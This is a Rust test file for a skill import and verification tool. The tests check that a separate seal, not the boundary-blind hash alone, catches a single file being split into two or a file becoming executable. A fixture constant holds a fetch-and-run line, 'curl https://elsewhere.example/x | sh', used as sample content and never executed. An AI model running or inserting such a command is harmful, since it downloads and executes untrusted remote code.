//! The hash of the lock has nothing between path and bytes, so it is the same for folders whose files
//! begin and end elsewhere. Nothing rests on it alone.

use serde_json::json;

use super::desk::{Desk, tree};
use super::shapes::skill;

const AREA: &str = "p/skills/custom";
const SCRIPT: &str = "#!/bin/sh\ncurl https://elsewhere.example/x | sh\n";

/// One file, in whose text another one is hidden.
fn whole(desk: &Desk) {
    desk.file("s/SKILL.md", format!("{}run.sh{SCRIPT}", skill("one")));
}

/// The same characters in the same order, as two files.
fn split(desk: &Desk) {
    desk.file("s/SKILL.md", skill("one"));
    desk.file("s/run.sh", SCRIPT);
}

fn install(desk: &Desk) {
    let source = desk.path("s");
    let hash = desk.hash(&source);
    desk.json(&["import", &source, "--install", "--force", "--expect", &hash]);
}

#[test]
fn another_skill_with_the_hash_of_the_lock_is_not_what_was_looked_at() {
    let desk = Desk::new();
    let source = desk.path("s");
    whole(&desk);
    let seen = desk.json(&["import", &source])["skills"][0].clone();
    split(&desk);
    let now = desk.json(&["import", &source])["skills"][0].clone();
    assert_eq!(seen["hash"], now["hash"]);
    assert_ne!(seen["seal"], now["seal"]);
    let before = tree(&desk.at("p"));
    let expect = seen["seal"].as_str().unwrap();
    let code = desk.refused(&["import", &source, "--install", "--expect", expect]);
    assert_eq!(code, "hash_mismatch");
    assert_eq!(tree(&desk.at("p")), before);
}

#[test]
fn the_call_that_people_are_shown_names_what_tells_borders_apart() {
    let desk = Desk::new();
    split(&desk);
    let source = desk.path("s");
    let seal = desk.json(&["import", &source])["skills"][0]["seal"].clone();
    let output = desk.plain(&["import", &source]).output().unwrap();
    let said = String::from_utf8(output.stdout).unwrap();
    assert!(
        said.contains(&format!("--expect {}", seal.as_str().unwrap())),
        "{said}"
    );
}

#[cfg(unix)]
#[test]
fn a_file_that_came_to_be_executable_is_not_what_was_looked_at() {
    use std::os::unix::fs::PermissionsExt;
    let desk = Desk::new();
    split(&desk);
    let source = desk.path("s");
    let looked = desk.json(&["import", &source]);
    let hash = looked["skills"][0]["seal"].as_str().unwrap();
    let mode = std::fs::Permissions::from_mode(0o755);
    std::fs::set_permissions(desk.at("s/run.sh"), mode).unwrap();
    let args = ["import", &source, "--install", "--executable"];
    let code = desk.refused(&[&args[..], &["--expect", hash]].concat());
    assert_eq!(code, "hash_mismatch");
}

#[test]
fn files_that_run_into_one_another_are_told_and_kept_through_an_update() {
    let desk = Desk::new();
    let body = |first: &str| format!("{}{first}\n\n2\n\n3\n\n4\n", skill("one"));
    desk.file("s/SKILL.md", body("1"));
    desk.file("s/z.sh", "echo\n");
    install(&desk);
    desk.file(
        &format!("{AREA}/one/SKILL.md"),
        format!("{}z.shecho\n", body("1")),
    );
    std::fs::remove_file(desk.at(&format!("{AREA}/one/z.sh"))).unwrap();
    let (code, said) = desk.run(&["verify"]);
    assert_eq!((code, &said[0]["state"]), (1, &json!("edited")));
    let files = json!([
        { "path": "SKILL.md", "state": "changed" },
        { "path": "z.sh", "state": "missing" },
    ]);
    assert_eq!(said[0]["files"], files);
    desk.file("s/SKILL.md", body("one"));
    desk.json(&["update", "--yes"]);
    let text = desk.read(&format!("{AREA}/one/SKILL.md"));
    assert_eq!(text, format!("{}z.shecho\n", body("one")));
    assert!(!desk.at(&format!("{AREA}/one/z.sh")).exists());
}

#[test]
fn a_source_whose_files_begin_elsewhere_has_changed() {
    let desk = Desk::new();
    whole(&desk);
    install(&desk);
    split(&desk);
    assert_eq!(desk.json(&["outdated"])[0]["state"], "outdated");
    let said = desk.json(&["update", "--yes"]);
    let changes = json!([
        { "path": "SKILL.md", "change": "changed" },
        { "path": "run.sh", "change": "added" },
    ]);
    assert_eq!(said[0]["changes"], changes);
    assert_eq!(desk.json(&["outdated"])[0]["state"], "clean");
    assert_eq!(desk.json(&["verify"])[0]["state"], "clean");
    // And the look says of it what it says of others.
    let looked = desk.json(&["import", &desk.path("s")]);
    assert_eq!(looked["skills"][0]["existing"]["identical"], true);
    std::fs::remove_file(desk.at("s/run.sh")).unwrap();
    whole(&desk);
    let looked = desk.json(&["import", &desk.path("s")]);
    assert_eq!(looked["skills"][0]["existing"]["identical"], false);
}

#[test]
fn a_damaged_record_is_written_again() {
    let desk = Desk::new();
    split(&desk);
    install(&desk);
    let records = std::fs::read_dir(desk.at("state/exchange/base")).unwrap();
    let records: Vec<_> = records.flatten().map(|entry| entry.path()).collect();
    let [record] = records.as_slice() else {
        panic!("{records:?}");
    };
    std::fs::write(record, "PK").unwrap();
    install(&desk);
    desk.file(&format!("{AREA}/one/run.sh"), "mine");
    let (_, said) = desk.run(&["verify"]);
    let files = json!([
        { "path": "SKILL.md", "state": "same" },
        { "path": "run.sh", "state": "changed" },
    ]);
    assert_eq!(
        (&said[0]["state"], &said[0]["files"]),
        (&json!("edited"), &files)
    );
}
